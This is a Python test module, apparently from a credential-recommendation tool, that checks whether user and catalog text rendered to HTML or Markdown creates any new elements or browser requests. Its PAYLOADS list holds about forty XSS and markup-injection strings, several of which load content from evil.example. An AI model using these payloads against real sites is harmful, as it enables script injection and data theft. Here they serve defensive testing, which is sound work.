"""Every text field of a catalog and of a learner holds what would like to be markup: the page, in
a real browser, and the Markdown have no element, attribute, address or request that plain words
would not have."""

import re
import typing
from collections import Counter
from functools import cache

import pytest
from conftest import SOURCES, credential, document, in_memory
from markdown_it import MarkdownIt
from pages import DAY
from pydantic import BaseModel, StringConstraints
from test_browser import browser_page

from credpick.catalog import models
from credpick.catalog.kinds import KEYS
from credpick.criteria import rules
from credpick.present.report.gather import gather
from credpick.present.report.render import as_html, as_markdown
from credpick.profile.model import Goal, Learner, Profile
from credpick.ranking.judge import judge

pytestmark = pytest.mark.slow

__all__ = ["browser_page"]  # a fixture of the other module
PLAIN = "plain words"
PAYLOADS = (
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></select><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/p.png>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/></object>",
    "<embed src=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<form action=https://evil.example/><input name=a></form>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<details open ontoggle=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><b>bold</b>',
    "'><b>bold</b>",
    "` onmouseover=`alert(1)",
    "<!-- not closed",
    "--><b>bold</b><!--",
    "<![CDATA[<b>bold</b>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "{{ 7 * 7 }}{% for x in y %}",
    "${alert(1)}#{alert(1)}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "[x](javascript:alert(1)) ![x](https://evil.example/p.png)",
    "[x]: https://evil.example/ [x]",
    "<https://evil.example/> https://evil.example/ www.evil.example a@evil.example",
    "# heading | cell | **bold** _em_ ~~gone~~ `code` ==mark== ^up^ $x$",
    "1. one - two > three + four --- *** ``` ~~~ === :::",
    "| a | b |\\n|---|---|\\n[^1]: note",
    "javascript:alert(1)//",
)


def takes_text(annotation):
    """Whether a field takes words of anybody: a constrained text without a pattern."""
    if isinstance(annotation, StringConstraints):
        return annotation.max_length == 600
    parts = [*typing.get_args(annotation), *getattr(annotation, "__metadata__", ())]
    return any(takes_text(part) for part in parts)


def text_fields():
    """Every field of the catalog's model that takes words: (model, field)."""
    for name, model in vars(models).items():
        if isinstance(model, type) and issubclass(model, BaseModel) and model is not models.Catalog:
            for field, info in model.model_fields.items():
                if any(takes_text(part) for part in (info.annotation, *info.metadata)):
                    yield name, info.alias or field


CITED = {"source": "s-government", "as_of": "2026-10"}
NEEDED = {"flag": {"kind": "lawsuit"}}
NUMBERS = {
    "credit.hours": (3, {"unit": "SemesterHour", "kind": "institutional"}),
    "cost.tuition": (300, {"per": "all"}),
    "cost.fees": (30, {"per": "credit", "count": 3}),
    "time.course": (40, {"unit": "hours"}),
    "renewal.cycle": (3, {"unit": "years"}),
    "outcome.rate": (0.5, {"measure": "pass", "checked_by": "self_reported", "denominator": 9}),
    "outcome.wage": (50_000, {"of": "completers", "checked_by": "self_reported"}),
    "context.wage": (50_000, {"occupation": "15-2051"}),
    "payoff.earnings": (50_000, {"of": "completers", "threshold": 3, "years_after": 4}),
    "payoff.job_ads": (5, {"denominator": 50, "occupation": "15-2051"}),
    "payoff.listing": ("federal_rule", {}),
    "trust.assessment": ("proctored_exam", {}),
    "trust.credit_recommendation": ("ACE", {}),
}


def facts(text):
    """Every key whose value is text, and every other that says something beside."""
    everywhere = {"note": text, "where": text, "unit": text}
    for key, kind in KEYS.items():
        if kind.value == "text":
            yield {"key": key, "value": text, **everywhere, **NEEDED.get(key, {}), **CITED}
    for key, (value, more) in NUMBERS.items():
        may = {"item", "by", "population", "window"} & {*KEYS[key].may}
        said = dict.fromkeys(may, text) | ({"roles": [text]} if "roles" in KEYS[key].may else {})
        per = {"per": text} if key == "credit.hours" else {}
        yield {
            "key": key,
            "value": value,
            "note": text,
            "where": text,
            **more,
            **said,
            **per,
            **CITED,
        }
    yield {"key": "cost.exam", "value": "absent", "register": text, "note": text, **CITED}
    yield {"key": "payoff.required", "value": "absent", "register": text, **CITED}
    ways = [{"education": "high_school"}, {"other": text}]
    yield {"key": "entry.any_of", "value": text, "ways": ways, **CITED}


def catalog(text):
    """Five credentials, each with all of it; one is flagged, one is left out."""
    own = dict.fromkeys(("unitid", "opeid", "ctid"), text)
    ids = {**own, **dict.fromkeys(("listed_as", "dod_8140", "ccc_map", "cip"), text)}
    edge = {"degree": text, "college": text, "credits": 3, "course": text, "agreement": "designed"}
    limit = {"credits": 9, "note": text, **CITED}
    found = [
        credential(
            f"cred-{n}",
            [one for one in facts(text) if n == 0 or one["key"] != "flag"],
            [{**edge, "limit": limit, "note": text, **CITED}],
            name=f"{n} {text}",
            platform=text,
            ids=ids,
            occupations=[{"code": "15-2051", "title": text}],
        )
        for n in range(4)
    ]
    closed = ("offer.status", "closed", {"note": text, **CITED})
    found.append(credential("closed", [closed, ("cost.tuition", 9)], name=f"closed {text}"))
    body = {"id": "body", "name": text, "letter_to": text, "kind": "company"}
    body |= {"ids": own, "facts": [{"key": "note", "value": text, **CITED}]}
    via = {"who": text, "when": "2026-07"}
    read = [{**one, "publisher": text, "title": text} for one in SOURCES]
    read.append({**read[0], "id": "s-read", "via": via})
    read.append({**read[3], "id": "s-press-read", "via": via})
    return document(*found, bodies=[body], sources=read, never_cite=[text])


def filled(text):
    """Which fields of which models the catalog fills with the text."""

    def within(model):
        for field in model.model_fields_set:
            value = getattr(model, field)
            name = type(model).model_fields[field].alias or field
            for one in value if isinstance(value, tuple) else (value,):
                if isinstance(one, BaseModel):
                    yield from within(one)
                elif isinstance(one, str) and text in one:
                    yield type(model).__name__, name

    return set(within(models.Catalog.model_validate(catalog(text))))


def test_every_text_field_of_the_catalog_is_filled():
    wanted, shown = set(text_fields()), filled(PLAIN)
    # A kind is one of our words wherever a key takes one; elsewhere it is refused.
    assert wanted - shown == {("Fact", "kind")}
    assert ("Fact", "value") in shown


STRUCTURE = """() => [...document.querySelectorAll("*")].map(one =>
    [one.tagName, ...[...one.attributes].map(it => it.name).sort(),
     one.getAttribute("href"), one.getAttribute("src"), one.getAttribute("style")].join(" "))"""


@cache
def page_of(text):
    """The page for somebody whose own words are such a text too."""
    said = catalog(text)
    sources, bodies = said.pop("sources"), said.pop("awarding_bodies")
    found = in_memory(*said["credentials"], bodies=bodies, sources=sources)
    learner = Learner(
        state="OH", education="some_college", college=text, target_degree=text, bars=(text,)
    )
    goal = Goal(field="data")
    profile = Profile(goal=goal, learner=learner, weights={"cost": 1, "credit": 1})
    return gather(judge(found, profile, rules.load(), DAY))


def rendered(text):
    """What a reader of Markdown sees, with raw HTML let through and bare addresses linked."""
    source = as_markdown(page_of(text))
    html = MarkdownIt("gfm-like", {"linkify": False, "html": True}).render(source)
    return f"<!doctype html><meta charset=utf-8><title>x</title>{html}"


# What a renderer of GitHub's makes a link of wherever it stands bare in a text.
BARE = re.compile(r"(?<![<\\\w])(?:www\.|(?:https?|ftp|mailto|xmpp):(?=\S))|(?<!\\)@\w", re.ASCII)


@pytest.mark.parametrize("text", PAYLOADS)
def test_markdown_has_no_bare_address_of_a_text(text):
    """Addresses of sources stand in angle brackets, and are checked."""
    said = re.sub(
        r"(?<!\\)<https?://[^\s<>]+>$", "", as_markdown(page_of(text)), flags=re.MULTILINE
    )
    assert not BARE.search(said), BARE.search(said)


@pytest.mark.slow
@pytest.mark.parametrize("form", ["html", "md"])
def test_text_makes_no_element_attribute_address_or_request(browser_page, tmp_path, form):
    def structure(text):
        path = tmp_path / "page.html"
        path.write_text(as_html(page_of(text)) if form == "html" else rendered(text), "utf-8")
        browser_page.trouble.clear()
        browser_page.asked.clear()
        browser_page.goto(path.as_uri())
        assert browser_page.trouble == [], text
        assert browser_page.asked == [path.as_uri()], text
        return Counter(browser_page.evaluate(STRUCTURE))

    meant = structure(PLAIN)
    assert sum(meant.values()) > 50
    for text in PAYLOADS:
        found = structure(text)
        assert found == meant, (text, found - meant, meant - found)
